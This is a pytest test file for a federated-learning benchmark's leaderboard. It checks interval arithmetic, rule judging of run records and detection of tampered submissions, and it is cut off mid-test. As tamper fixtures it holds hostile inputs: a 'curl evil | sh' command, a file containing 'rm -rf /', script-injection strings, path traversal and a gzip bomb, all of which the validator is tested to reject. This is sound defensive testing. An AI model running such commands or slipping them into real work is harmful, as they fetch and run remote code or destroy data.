@@ -1,0 +1,1236 @@
+"""Entries: their numbers, the rules that records must keep, files that nobody trusts, ranks."""
+
+import gzip
+import hashlib
+import json
+import os
+import re
+import tomllib
+from collections.abc import Callable, Iterable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+
+from fedbench import registry
+from fedbench.cli import main
+from fedbench.errors import ConfigError
+from fedbench.leaderboard import board as boards
+from fedbench.leaderboard.build import Case, build
+from fedbench.leaderboard.check import check
+from fedbench.leaderboard.entry import Entry, Interval, Repeated, Reproduction, Said
+from fedbench.leaderboard.growth import losses
+from fedbench.leaderboard.judge import RULES, SOUND, judge
+from fedbench.leaderboard.plan import plan
+from fedbench.leaderboard.rank import ranking, total
+from fedbench.leaderboard.reproduce import claim
+from fedbench.leaderboard.reproduction import (
+    Comparison,
+    appended,
+    order,
+    reproduced,
+    reproduction,
+    status,
+)
+from fedbench.leaderboard.rules import Rules, versions
+from fedbench.leaderboard.schema import schemas
+from fedbench.leaderboard.score import curve, over, price, score, spending
+from fedbench.leaderboard.submission import infer, submit
+from fedbench.record import Environment, Privacy, Record, Result, Round, Spread, Timing
+from fedbench.scenario import Scenario, code_version
+from fedbench.sweep.plan import Plan
+
+ROOT = Path(__file__).parents[1]
+BOARD = ROOT / "leaderboards"
+D = 100  # parameters
+DATA = "d" * 64
+TRACK = {
+    "dataset": "digits",
+    "model": "micro",
+    "clients": 10,
+    "per_round": 5,
+    "malicious": 0.2,
+    "rounds": 2,
+    "eval_every": 1,
+}
+RULES_1: dict[str, Any] = {
+    "version": 1,
+    "seeds": 3,
+    "confidence": 0.95,
+    "free": ["protocol", "defense", "mechanism", "attack", "seed"],
+    "ensemble": {"SignBits": ["none", "sign-flip"], "FloatVectors": ["none", "dyn-opt"]},
+    "tolerance": {"accuracy": 0.02, "bits": 0.01, "epsilon": 1e-6},
+    "track": [
+        {
+            "name": "tiny",
+            "seeds": [0, 1, 2],
+            "data": DATA,
+            "clean": {"low": 0.5, "high": 0.95},
+            "scenario": TRACK,
+        }
+    ],
+}
+RULES_OF = Rules.model_validate(RULES_1)
+SAID = Said(name="Majority", authors="A. Uthor", tried=3)
+CLEAN, FLIPPED = (0.7, 0.8, 0.9), (0.5, 0.6, 0.7)
+
+
+def played(
+    attack: str = "none", seed: int = 0, accuracy: float = 0.8, up: int = 1, **fields: Any
+) -> Record:
+    """A record as a run of two rounds would write it: 1 bit up, 32 down, a look a round."""
+    given = {"protocol": "signsgd", **TRACK, **fields, "attack": attack, "seed": seed}
+    scenario = Scenario.of(**given).resolved()
+    rounds = [
+        Round(
+            step=step,
+            clients=[0, 1, 2, 3, 4],
+            malicious=1,
+            accepted=5,
+            rejected_honest=0,
+            rejected_malicious=0,
+            skipped=False,
+            uplink_bits=5 * up * D,
+            benign_uplink_bits=4 * up * D,
+            downlink_bits=5 * 32 * D,
+            accuracy=accuracy if step == scenario.rounds - 1 else accuracy / 2,
+        )
+        for step in range(scenario.rounds)
+    ]
+    result = Result(
+        accuracy=accuracy,
+        loss=1.0,
+        per_client=Spread(mean=accuracy, std=0.0, min=accuracy, max=accuracy),
+        uplink_bits_per_parameter=up,
+        downlink_bits_per_parameter=32,
+        model_bits=D,
+        skipped_rounds=0,
+    )
+    environment = Environment(
+        fedbench="0.0.1+0123456789ab",
+        python="3.11",
+        torch="2",
+        numpy="2",
+        platform="a machine",
+        device="cpu",
+        executor="loop",
+        threads=1,
+    )
+    return Record(
+        id=hashlib.sha256(scenario.model_dump_json().encode()).hexdigest()[:16],
+        scenario=scenario,
+        data_digest=DATA,
+        parameters=D,
+        vote=True,
+        mechanism=scenario.mechanism,
+        environment=environment,
+        rounds=rounds,
+        result=result,
+        flags=[],
+        timing=Timing(seconds=float(seed + 1), peak_memory_mib=1.0),
+    ).sealed()
+
+
+def changed(record: Record, **fields: Any) -> Record:
+    """The record with other content, under a new seal; ``a__b`` is field b of part a."""
+    content = record.model_dump()
+    for name, value in fields.items():
+        part, _, field = name.rpartition("__")
+        (content[part] if part else content)[field] = value
+    return Record.model_validate(content).sealed()
+
+
+def runs(**fields: Any) -> list[Record]:
+    """A system that keeps the rules: the clean run and a flipped one, over three seeds."""
+    return [
+        played(attack, seed, accuracy, **fields)
+        for attack, accuracies in (("none", CLEAN), ("sign-flip", FLIPPED))
+        for seed, accuracy in enumerate(accuracies)
+    ]
+
+
+def case(records: Iterable[Record], alphabet: str = "SignBits", **fields: Any) -> Case:
+    given: dict[str, Any] = {"rules": RULES_OF, "division": "closed", "track": "tiny", **fields}
+    return Case(list(records), alphabet=alphabet, **given)
+
+
+def entry(**fields: Any) -> Entry:
+    return build(case(runs(**fields)), SAID)
+
+
+def broken(judged: Case, severity: str = "error") -> set[str]:
+    return {finding.rule for finding in judge(judged) if finding.severity == severity}
+
+
+# The numbers
+
+
+def test_an_interval_is_students_over_seeds() -> None:
+    # t(2, 0.975) = 4.302653, s = 0.1: 4.302653 * 0.1 / sqrt(3) = 0.248414; a normal one is 0.1132
+    found = over([0.7, 0.8, 0.9], 0.95)
+    assert found.mean == pytest.approx(0.8)
+    assert [found.low, found.high] == pytest.approx([0.551586, 1.048414], abs=1e-6)
+    assert found.low == round(found.low, 9)
+
+
+def test_impact_is_of_pairs_of_one_seed_and_not_of_means() -> None:
+    # 0.7 - 0.5, 0.8 - 0.6, 0.9 - 0.7: always 0.2, so a point; records come unordered
+    cell = build(case(reversed(runs())), SAID).cells[1]
+    assert cell.impact is not None
+    assert cell.impact.mean == pytest.approx(0.2)
+    assert cell.impact.high - cell.impact.low == pytest.approx(0.0, abs=1e-9)
+    assert [m.seed for m in cell.records] == [0, 1, 2]
+    assert build(case(runs()), SAID).cells[0].impact is None
+
+
+def test_the_worst_case_is_the_lowest_mean_of_an_attack() -> None:
+    # dyn-opt has the lowest seed, sign-flip the lowest mean, the clean run an even lower one.
+    records = [played("none", s, a) for s, a in enumerate((0.5, 0.5, 0.51))]
+    records += [played("sign-flip", s, 0.6) for s in range(3)]
+    records += [played("dyn-opt", s, a) for s, a in enumerate((0.1, 0.9, 0.95))]
+    found = build(case(records), SAID)
+    assert found.score.attack.startswith("sign-flip")
+    assert found.score.worst == found.cells[1].accuracy
+    assert found.score.clean.mean == pytest.approx(0.503333, abs=1e-6)
+    assert [cell.mandatory for cell in found.cells] == [True, True, False]
+
+
+def test_of_two_attacks_alike_the_first_by_name_is_named() -> None:
+    records = [played(a, s, 0.6) for a in ("none", "sign-flip", "dyn-opt") for s in range(3)]
+    assert build(case(records), SAID).score.attack.startswith("dyn-opt")
+
+
+def test_bits_of_an_entry_are_the_mean_over_its_cells() -> None:
+    records = [r for r in runs() if r.scenario.attack == "none"]
+    records += [played("sign-flip", s, 0.6, up=4) for s in range(3)]
+    found = build(case(records), SAID)
+    assert found.score.uplink_bits == 2.5
+    assert found.score.downlink_bits == 32
+
+
+def test_what_a_client_spends_is_added_up_over_the_rounds() -> None:
+    # Round 0: 4 benign send 3 bits each, 5 get 2: 5. Round 1: nobody benign sends, 5 get 2: 7.
+    # Round 2: nobody came. What malicious clients send does not count.
+    record = played()
+    base = record.rounds[0].model_dump() | {"downlink_bits": 10 * D}
+    rounds = [
+        base | {"benign_uplink_bits": 12 * D, "uplink_bits": 40 * D},
+        base | {"step": 1, "malicious": 5, "benign_uplink_bits": 0, "uplink_bits": 15 * D},
+        base | {"step": 2, "clients": [], "malicious": 0, "benign_uplink_bits": 0}
+        | {"downlink_bits": 0},
+    ]  # fmt: skip
+    assert spending(changed(record, rounds=rounds)) == [5.0, 7.0, 7.0]
+
+
+def test_a_curve_has_the_looks_that_all_seeds_had() -> None:
+    found = curve([played(seed=s, accuracy=a) for s, a in enumerate((0.6, 0.8))], 0.95)
+    assert [(p.rounds, p.bits) for p in found] == [(1, 33.0), (2, 66.0)]
+    assert [p.accuracy.mean for p in found] == pytest.approx([0.35, 0.7])
+
+
+def priced(epsilon: float | None, **fields: Any) -> Record:
+    said = Privacy(
+        epsilon=epsilon,
+        delta=1e-5,
+        unit="client",
+        sees="messages",
+        adjacency="replace-one",
+        sampler="everybody",
+        winner="basic",
+    )
+    return changed(played(**fields), privacy=said.model_dump(), result__epsilon=epsilon)
+
+
+def test_a_price_is_that_of_the_run_that_gave_away_most() -> None:
+    assert price([played()]) is None
+    most = price([priced(1.0), priced(3.0), priced(2.0)])
+    assert most is not None
+    assert most.epsilon == 3.0
+    unknown = price([priced(1.0), priced(None), priced(3.0)])
+    assert unknown is not None
+    assert unknown.epsilon is None
+
+
+def test_the_id_is_of_everything_but_itself_status_and_reproductions() -> None:
+    one = entry()
+    content = json.loads(one.to_json())
+    for name in ("id", "status", "reproductions"):
+        del content[name]
+    text = json.dumps(content, sort_keys=True, separators=(",", ":"))  # anyone can do that
+    assert hashlib.sha256(text.encode()).hexdigest()[:12] == one.id == one.content_id()
+    assert appended(one, said_again(one.score.attack, True)).content_id() == one.id
+    assert one.model_copy(update={"note": "n"}).content_id() != one.id
+
+
+def test_the_command_says_everything_but_the_times() -> None:
+    words = entry(declared=0.4, local_models=True, server_checks="range").command.split()
+    for option, value in {
+        "--protocol": "signsgd:lr=0.005,momentum=0.9,weight_decay=0.0001",
+        "--defense": "mean",
+        "--dataset": "digits",
+        "--per-round": "5",
+        "--declared": "0.4",
+        "--seeds": "0,1,2",
+        "--server-checks": "range",
+    }.items():
+        assert words[words.index(option) + 1].partition(":")[0] == value.partition(":")[0], option
+    assert words[:2] == ["fedbench", "attack"]
+    assert "--local-models" in words
+    assert words.count("--attack") == 2
+    assert "None" not in words
+
+
+# The rules
+
+
+def test_records_that_keep_the_rules_raise_no_finding() -> None:
+    assert judge(case(runs())) == []
+    assert broken(case(runs(clients=20), division="open", track="digits")) == set()
+
+
+def every(change: Callable[[Record], Record]) -> list[Record]:
+    return [change(record) for record in runs()]
+
+
+def first(change: Callable[[Record], Record]) -> list[Record]:
+    return [change(runs()[0]), *runs()[1:]]
+
+
+WRONG: dict[str, tuple[str, Callable[[], Case]]] = {
+    "a seed less everywhere": (
+        "seeds",
+        lambda: case(r for r in runs() if r.scenario.seed != 1),
+    ),
+    "seeds that the track does not name": (
+        "seeds",
+        lambda: case(played(a, s, 0.7) for a in ("none", "sign-flip") for s in (0, 1, 3)),
+    ),
+    "one deal of the data for all seeds": ("seeds", lambda: case(runs(data_seed=7))),
+    "a run that is missing": ("paired", lambda: case(runs()[:-1])),
+    "a run twice": ("paired", lambda: case([*runs(), changed(runs()[0], id="f" * 16)])),
+    "a mandatory attack that is missing": ("ensemble", lambda: case(runs()[:3])),
+    "two clean runs": (
+        "ensemble",
+        lambda: case([*runs(), *(_of(r, attack="none:") for r in runs()[:3])]),
+    ),
+    "no clean run": ("ensemble", lambda: case(runs()[3:])),
+    "an alphabet without attacks": ("ensemble", lambda: case(runs(), "Rankings")),
+    "other code": (
+        "code",
+        lambda: case(first(lambda r: changed(r, environment__fedbench="0.0.1+beef"))),
+    ),
+    "another device": (
+        "device",
+        lambda: case(first(lambda r: changed(r, environment__device="GPU"))),
+    ),
+    "other data": ("data", lambda: case(every(lambda r: changed(r, data_digest="e" * 64)))),
+    "a track that is not there": ("track", lambda: case(runs(), track="huge")),
+    "the open division of another data set": (
+        "track",
+        lambda: case(runs(), division="open", track="mnist"),
+    ),
+    "an attack by nobody": (
+        "attacked",
+        lambda: case(
+            r if r.scenario.attack == "none" else changed(r, rounds=_without_malicious(r))
+            for r in runs()
+        ),
+    ),
+    "another defense in one run": (
+        "one system",
+        lambda: case([played(accuracy=0.7, defense="median"), *runs()[1:]]),
+    ),
+    "another track's run among them": (
+        "one system",
+        lambda: case([played(accuracy=0.7, rounds=3), *runs()[1:]]),
+    ),
+    "another network in one run": (
+        "one system",
+        lambda: case(first(lambda r: changed(r, vote=False))),
+    ),
+    "a price for one run only": (
+        "one system",
+        lambda: case([priced(1.0, accuracy=0.7), *runs()[1:]]),
+    ),
+    "other rounds than the track's": ("fixed: rounds", lambda: case(runs(rounds=3))),
+    "another partition": ("fixed: partition", lambda: case(runs(partition="iid"))),
+    "what the track does not name": ("fixed: epochs", lambda: case(runs(epochs=1))),
+    "more for the defense to know": ("fixed: declared", lambda: case(runs(declared=0.4))),
+    "a broken baseline": (
+        "envelope",
+        lambda: case(played(a, s, 0.49) for a in ("none", "sign-flip") for s in range(3)),
+    ),
+    "too good to be true": (
+        "envelope",
+        lambda: case(played(a, s, 0.96) for a in ("none", "sign-flip") for s in range(3)),
+    ),
+    "results that do not follow from the rounds": (
+        "record",
+        lambda: case(first(lambda r: changed(r, result__accuracy=0.9))),
+    ),
+    "fewer bits than were sent": (
+        "record",
+        lambda: case(first(lambda r: changed(r, result__uplink_bits_per_parameter=0.5))),
+    ),
+    "a price that no round paid": (
+        "record",
+        lambda: case(first(lambda r: changed(r, result__epsilon=0.5))),
+    ),
+    "rounds that were cut off": (
+        "record",
+        lambda: case(first(lambda r: changed(r, rounds=r.model_dump()["rounds"][:1]))),
+    ),
+    "rounds without end": ("record", lambda: case(_of(r, rounds=10**15) for r in runs())),
+    "looks that were left out": (
+        "record",
+        lambda: case(first(lambda r: changed(r, rounds=_without_first_look(r)))),
+    ),
+    "a number that breaks arithmetic": (
+        "record",
+        lambda: case(every(lambda r: changed(r, parameters=10**400))),
+    ),
+    "no parameters": ("record", lambda: case(every(lambda r: changed(r, parameters=0)))),
+    "a flag that moves the cursor": (
+        "record",
+        lambda: case(first(lambda r: changed(r, flags=["\x1b[2J"]))),
+    ),
+    "an id that does not follow from the scenario": (
+        "id",
+        lambda: case(every(lambda r: changed(r, environment__fedbench=code_version()))),
+    ),
+    "one id for two runs": (
+        "id",
+        lambda: case(changed(r, id="0" * 16) for r in runs()),
+    ),
+    "a protocol that cannot name a file": (
+        "name",
+        lambda: case(_of(r, protocol="../signs:x=1") for r in runs()),
+    ),
+}  # fmt: skip
+
+
+def _without_malicious(record: Record) -> list[dict[str, Any]]:
+    return [r.model_dump() | {"malicious": 0, "benign_uplink_bits": 5 * D} for r in record.rounds]
+
+
+def _without_first_look(record: Record) -> list[dict[str, Any]]:
+    one, two = (r.model_dump() for r in record.rounds)
+    return [one | {"accuracy": None}, two]
+
+
+def _of(record: Record, **fields: Any) -> Record:
+    """The record as if of another scenario, which need not exist."""
+    scenario = record.scenario.model_copy(update=fields)
+    name = hashlib.sha256(scenario.model_dump_json().encode()).hexdigest()[:16]
+    return record.model_copy(update={"scenario": scenario, "id": name}).sealed()
+
+
+@pytest.mark.parametrize("what", WRONG)
+def test_a_broken_rule_is_named_and_no_other(what: str) -> None:
+    rule, judged = WRONG[what]
+    assert broken(judged()) == {rule}
+
+
+def test_every_rule_that_refuses_is_tried_here() -> None:
+    names = {rule.name for rule in (*SOUND, *RULES) if rule.severity == "error"}
+    tried = {rule for rule, _ in WRONG.values()}
+    assert {n for n in names if not n.startswith("fixed")} == {
+        n for n in tried if not n.startswith("fixed")
+    }
+
+
+def test_all_broken_rules_are_found_at_once() -> None:
+    records = [played(a, s, 0.3, rounds=3) for a in ("none",) for s in (0, 1)]
+    assert broken(case(records)) == {"seeds", "ensemble", "fixed: rounds", "envelope"}
+
+
+DOUBTED: dict[str, Callable[[], Case]] = {
+    "doubts": lambda: case(first(lambda r: changed(r, flags=["near chance"]))),
+    "harmless": lambda: case(played(a, s, 0.8) for a in ("none", "sign-flip") for s in range(3)),
+    "easy": lambda: case(
+        [played("none", s, 0.96) for s in range(3)]
+        + [played("sign-flip", s, 0.5) for s in range(3)],
+        division="open",
+        track="digits",
+    ),
+    "participation": lambda: case(runs(clients=5), division="open", track="digits"),
+    "unpriced": lambda: case(
+        priced(None, attack=r.scenario.attack, seed=r.scenario.seed, accuracy=r.result.accuracy)
+        for r in runs()
+    ),
+}
+
+
+@pytest.mark.parametrize("rule", DOUBTED)
+def test_a_doubt_stands_beside_an_entry_and_keeps_none_out(rule: str) -> None:
+    assert broken(DOUBTED[rule](), "warning") == {rule}
+    assert broken(DOUBTED[rule]()) == set()
+
+
+def test_every_doubt_is_tried_here() -> None:
+    assert {rule.name for rule in RULES if rule.severity == "warning"} == set(DOUBTED)
+
+
+def test_a_default_that_is_written_out_is_the_same_attack_and_the_same_data() -> None:
+    short = Scenario.of(**TRACK, protocol="signsgd", attack="sign-flip")
+    records = runs()
+    typed = [_of(r, attack="sign-flip") for r in records[3:]]
+    assert short.attack != records[3].scenario.attack
+    assert broken(case([*records[:3], *typed])) == set()
+
+
+# A later version of the rules
+
+
+def grown(**fields: Any) -> Rules:
+    return Rules.model_validate(RULES_1 | {"version": 2} | fields)
+
+
+TRACK_1 = RULES_1["track"][0]
+
+
+@pytest.mark.parametrize(
+    ("fields", "word"),
+    [
+        ({"version": 3}, "version must be 2"),
+        ({"seeds": 2}, "seeds"),
+        ({"confidence": 0.9}, "confidence"),
+        ({"free": [*RULES_1["free"], "rounds"]}, "rounds"),
+        ({"tolerance": RULES_1["tolerance"] | {"accuracy": 0.03}}, "tolerance.accuracy"),
+        ({"ensemble": {"SignBits": ["none", "sign-flip"], "FloatVectors": ["none"]}}, "dyn-opt"),
+        ({"ensemble": {"SignBits": ["none", "sign-flip"]}}, "ensemble.FloatVectors"),
+        ({"track": []}, "track tiny must be there"),
+        ({"track": [TRACK_1 | {"seeds": [0, 1, 2, 3]}]}, "the seeds"),
+        ({"track": [TRACK_1 | {"scenario": TRACK | {"rounds": 1}}]}, "the scenario"),
+        ({"track": [TRACK_1 | {"data": "e" * 64}]}, "the data"),
+        ({"track": [TRACK_1 | {"clean": {"low": 0.5, "high": 0.96}}]}, "envelope"),
+        ({"track": [TRACK_1 | {"clean": {"low": 0.4, "high": 0.95}}]}, "envelope"),
+    ],
+)
+def test_a_version_that_lets_in_what_the_one_before_kept_out_is_refused(
+    fields: dict[str, Any], word: str
+) -> None:
+    (lost,) = losses(RULES_OF, grown(**fields))
+    assert word in lost
+
+
+def test_a_version_may_add_attacks_alphabets_tracks_and_seeds() -> None:
+    ensemble = {"SignBits": ["none", "dyn-opt", "sign-flip"], "FloatVectors": ["none", "dyn-opt"]}
+    more = TRACK_1 | {"name": "more"}
+    later = grown(ensemble=ensemble | {"Rankings": ["none"]}, track=[TRACK_1, more], seeds=4)
+    assert list(losses(RULES_OF, later)) == []
+
+
+# A board
+
+
+@pytest.fixture
+def board(tmp_path: Path) -> Path:
+    folder = tmp_path / "board"
+    (folder / "rules").mkdir(parents=True)
+    (folder / "rules" / "1.toml").write_text(tomli_w.dumps(RULES_1))
+    return folder
+
+
+def kept(board: Path, records: list[Record] | None = None, **said: Any) -> Path:
+    fields = SAID.model_dump() | said
+    done = submit(records or runs(), fields, board, "closed")
+    assert done.entry is not None, done.findings
+    return done.write()
+
+
+def found(target: Path, severity: str = "error") -> set[str]:
+    """The rules that a check finds broken."""
+    return {f.rule for one in check(target) for f in one.findings if f.severity == severity}
+
+
+def test_an_entry_that_was_submitted_is_found_good_whole_or_alone(board: Path) -> None:
+    path = kept(board)
+    assert path.parent == board / "closed" / "tiny"
+    assert re.fullmatch(r"signsgd-[0-9a-f]{12}\.json", path.name)
+    for target in (board, board / "closed", path, boards.archive(path)):
+        (one,) = check(target)
+        assert one.findings == []
+        assert one.path == path.relative_to(board)
+
+
+def test_equal_records_make_equal_files(board: Path) -> None:
+    path = kept(board)
+    before = [p.read_bytes() for p in (path, boards.archive(path))]
+    done = submit(runs()[::-1], SAID.model_dump(), board, "closed", replace=True)
+    assert done.write() == path
+    assert [p.read_bytes() for p in (path, boards.archive(path))] == before
+    assert boards.archive(path).read_bytes()[4:8] == b"\0\0\0\0"  # no time of the day in it
+
+
+def edit(path: Path, change: Callable[[dict[str, Any]], None], reseal: bool = False) -> Path:
+    """Change an entry by hand; if asked, with a new id and a new name, as a cheater would."""
+    content = json.loads(path.read_bytes())
+    change(content)
+    path.write_text(json.dumps(content))
+    if not reseal:
+        return path
+    one = Entry.model_validate_json(path.read_bytes())
+    one = one.model_copy(update={"id": one.content_id()})
+    new = boards.place(boards.find(path), one)
+    renamed(path, new)
+    new.write_text(one.to_json())
+    return new
+
+
+def better(content: dict[str, Any]) -> None:
+    content["score"]["worst"]["mean"] = 0.99
+
+
+def repack(path: Path, lines: Callable[[list[bytes]], list[bytes]]) -> None:
+    packed = boards.archive(path)
+    text = gzip.decompress(packed.read_bytes()).splitlines(keepends=True)
+    packed.write_bytes(gzip.compress(b"".join(lines(text))))
+
+
+def cut(path: Path, size: int) -> None:
+    path.write_bytes(path.read_bytes()[:size])
+
+
+def linked(path: Path) -> None:
+    """The same content, behind a link that leads out of the board."""
+    outside = boards.find(path).parent / path.name
+    path.rename(outside)
+    path.symlink_to(outside)
+
+
+def renamed(path: Path, new: Path) -> None:
+    """The entry and its records."""
+    new.parent.mkdir(parents=True, exist_ok=True)
+    boards.archive(path).rename(boards.archive(new))
+    path.rename(new)
+
+
+def moved(path: Path, folder: str) -> None:
+    renamed(path, path.parents[2] / folder / path.name)
+
+
+def fake(content: dict[str, Any]) -> None:
+    """The second look of the worst cell, and nothing else."""
+    content["cells"][1]["curve"][0]["accuracy"]["mean"] += 1e-12
+
+
+TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
+    "an entry that was cut off": ({"schema"}, lambda p: cut(p, 500)),
+    "an empty entry": ({"schema"}, lambda p: cut(p, 0)),
+    "an entry that is not text": ({"schema"}, lambda p: p.write_bytes(b"\xff\xfe\0")),
+    "a number that is a string": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c["score"]["worst"].update(mean="0.6")),
+    ),
+    "a number that is a truth value": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c.update(tried=True)),
+    ),
+    "a number of the scenario that is a string": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c["scenario"].update(clients="10")),
+    ),
+    "a scenario that cannot be": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c["scenario"].update(clients=0)),
+    ),
+    "a number that is none": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c["score"]["worst"].update(mean=float("nan"))),
+    ),
+    "a number without end": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c["score"]["worst"].update(high=float("inf"))),
+    ),
+    "a field that is said twice": (
+        {"schema"},
+        lambda p: p.write_text(p.read_text().replace('"tried": 3', '"tried": 3, "tried": 3')),
+    ),
+    "a field that is left out": ({"schema"}, lambda p: edit(p, lambda c: c.pop("link") and None)),
+    "a field that nobody knows": ({"schema"}, lambda p: edit(p, lambda c: c.update(sponsor="me"))),
+    "an abyss": ({"schema"}, lambda p: p.write_bytes(b"[" * 200_000)),
+    "a huge entry": ({"schema"}, lambda p: p.write_bytes(p.read_bytes() + b" " * (1 << 20))),
+    "a name with an escape sequence": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c.update(name="\x1b[2J")),
+    ),
+    "a name that reads backwards": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c.update(name="a\u202eb")),
+    ),
+    "a link that runs a script": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c.update(link="javascript:alert(1)")),
+    ),
+    "a track that leads out of the board": (
+        {"schema"},
+        lambda p: edit(p, lambda c: c.update(track="../../etc")),
+    ),
+    "a protocol that leads out of the board": (
+        {"path", "digest", "installed"},
+        lambda p: edit(p, lambda c: c.update(protocol="../../x:y")),
+    ),
+    "an edited number": ({"digest"}, lambda p: edit(p, better)),
+    "an edited number, sealed again": ({"numbers"}, lambda p: edit(p, better, reseal=True)),
+    "an edited digit of a curve, sealed again": (
+        {"numbers"},
+        lambda p: edit(p, fake, reseal=True),
+    ),
+    "an edited command, sealed again": (
+        {"numbers"},
+        lambda p: edit(p, lambda c: c.update(command="curl evil | sh"), reseal=True),
+    ),
+    "an alphabet with fewer attacks, sealed again": (
+        {"numbers"},
+        lambda p: edit(p, lambda c: c.update(alphabet="FloatVectors"), reseal=True),
+    ),
+    "a record that was cut off": ({"records"}, lambda p: repack(p, lambda t: [*t[:5], t[5][:90]])),
+    "a record that was edited": (
+        {"records"},
+        lambda p: repack(p, lambda t: [t[0].replace(b'"accuracy":0.7', b'"accuracy":0.9'), *t[1:]]),
+    ),
+    "a record that is missing": ({"digest", "paired"}, lambda p: repack(p, lambda t: t[:5])),
+    "a record twice": ({"records"}, lambda p: repack(p, lambda t: [*t, t[0]])),
+    "records of another system": (
+        {"digest"},
+        lambda p: boards.archive(p).write_bytes(_archived(runs(up=2))),
+    ),
+    "an archive that was cut off": ({"records"}, lambda p: cut(boards.archive(p), 300)),
+    "an archive that is none": ({"records"}, lambda p: boards.archive(p).write_bytes(b"records")),
+    "no archive": ({"records"}, lambda p: boards.archive(p).unlink()),
+    "a bomb": (
+        {"records"},
+        lambda p: boards.archive(p).write_bytes(gzip.compress(b" " * (65 << 20), 1)),
+    ),
+    "too many lines": (
+        {"records"},
+        lambda p: boards.archive(p).write_bytes(gzip.compress(b"\n" * 2001)),
+    ),
+    "an archive behind a link": ({"records", "path"}, lambda p: linked(boards.archive(p))),
+    "an entry behind a link": ({"path"}, linked),
+    "a folder behind a link": ({"path"}, lambda p: linked(p.parent)),
+    "a division behind a link": ({"path"}, lambda p: linked(p.parent.parent)),
+    "an entry of another track": ({"path"}, lambda p: moved(p, "closed/other")),
+    "an entry of another division": ({"path"}, lambda p: moved(p, "open/tiny")),
+    "an entry under another name": ({"path"}, lambda p: renamed(p, p.with_name("best.json"))),
+    "a file that is neither": ({"path"}, lambda p: (p.parent / "run.sh").write_text("rm -rf /")),
+    "records of nothing": ({"path"}, lambda p: (p.parent / "x.jsonl.gz").write_bytes(b"")),
+    "a status without a reproduction": (
+        {"status"},
+        lambda p: edit(p, lambda c: c.update(status="reproduced")),
+    ),
+    "a version of the rules that does not exist": (
+        {"version"},
+        lambda p: edit(p, lambda c: c.update(rules=2), reseal=True),
+    ),
+}
+
+
+def _archived(records: list[Record]) -> bytes:
+    return gzip.compress("".join(r.model_dump_json() + "\n" for r in records).encode())
+
+
+@pytest.mark.parametrize("what", TAMPERED)
+def test_a_file_that_was_tampered_with_is_found_out(what: str, board: Path) -> None:
+    rules, tamper = TAMPERED[what]
+    tamper(kept(board))
+    assert found(board) == rules
+
+
+def test_two_entries_with_one_id_are_found_out(board: Path) -> None:
+    path = kept(board)
+    copy = path.with_name("signsgd-000000000000.json")
+    copy.write_bytes(path.read_bytes())
+    boards.archive(copy).write_bytes(boards.archive(path).read_bytes())
+    by_path = {one.path.name: {f.rule for f in one.findings} for one in check(board)}
+    assert by_path == {path.name: {"duplicate"}, copy.name: {"duplicate", "path"}}
+
+
+def test_one_system_twice_under_two_names_is_found_out(board: Path) -> None:
+    path = kept(board)
+    other = build(case(runs()), SAID.model_copy(update={"name": "The same again"}))
+    assert other.id != Entry.model_validate_json(path.read_bytes()).id
+    boards.write(board, other, runs())
+    assert found(board) == {"duplicate"}
+    assert found(path) == {"duplicate"}
+
+
+def test_a_name_with_markup_is_a_name(board: Path) -> None:
+    kept(board, name="<script>alert(1)</script> [bold]|x|")
+    assert found(board) == set()
+
+
+def test_a_plug_in_that_is_not_installed_is_a_warning_and_its_alphabet_is_taken_at_its_word(
+    board: Path,
+) -> None:
+    records = [_of(r, protocol="theirs:lr=0.1") for r in runs()]
+    one = build(case(records), SAID)
+    path = boards.write(board, one, records)
+    assert path.name == f"theirs-{one.id}.json"
+    assert found(board) == set()
+    assert found(board, "warning") == {"installed"}
+
+
+def test_an_entry_scored_under_an_older_version_says_so_and_stays_good(board: Path) -> None:
+    kept(board)
+    more = {"SignBits": ["none", "sign-flip", "dyn-opt"], "FloatVectors": ["none", "dyn-opt"]}
+    later = board / "rules" / "2.toml"
+    later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "ensemble": more}))
+    assert found(board) == set()
+    assert found(board, "warning") == {"version"}
+    done = submit(runs(), SAID.model_dump(), board, "closed", replace=True)
+    assert {f.rule for f in done.findings} == {"ensemble"}
+    later.write_text(tomli_w.dumps(RULES_1 | {"version": 2, "seeds": 2}))
+    assert found(board) == {"growth"}
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("version = 2", "must be named by its version|field required"),
+        (tomli_w.dumps(RULES_1 | {"version": 2}), "must be named by its version"),
+        ("version = ", "must be TOML"),
+        (tomli_w.dumps(RULES_1 | {"track": [TRACK_1 | {"scenario": {"round": 1}}]}), "--round"),
+    ],
+)
+def test_rules_that_cannot_be_read_are_one_line(text: str, message: str, board: Path) -> None:
+    (board / "rules" / "1.toml").write_text(text)
+    with pytest.raises(ConfigError, match=message):
+        versions(board)
+
+
+def test_rules_behind_a_link_are_not_read(board: Path, tmp_path: Path) -> None:
+    rules = board / "rules" / "1.toml"
+    rules.rename(tmp_path / "1.toml")
+    rules.symlink_to(tmp_path / "1.toml")
+    with pytest.raises(ConfigError, match="a link"):
+        versions(board)
+
+
+# Reproductions
+
+
+def test_the_worst_and_the_clean_cell_are_played_first_then_as_the_id_says() -> None:
+    records = [
+        played(attack, seed, accuracy)
+        for attack, accuracy in (
+            ("none", 0.8), ("sign-flip", 0.7), ("sign-flip:scale=2", 0.6),
+            ("sign-flip:scale=3", 0.65), ("dyn-opt", 0.7),
+        )
+        for seed in range(3)
+    ]  # fmt: skip
+    one = build(case(records), SAID)
+    names = [attack.partition(",")[0] for attack in order(one)]
+    assert names[:2] == ["sign-flip:scale=2.0", "none"]
+    assert sorted(order(one)) == sorted(cell.attack for cell in one.cells)
+    rest = {
+        tuple(order(build(case(records), SAID.model_copy(update={"note": str(i)})))[2:])
+        for i in range(8)
+    }
+    assert len(rest) > 1
+
+
+def compared(again: list[Record]) -> Comparison:
+    return Comparison("none", [played(seed=s, accuracy=0.8) for s in (0, 1)], again)
+
+
+@pytest.mark.parametrize(
+    ("again", "apart"),
+    [
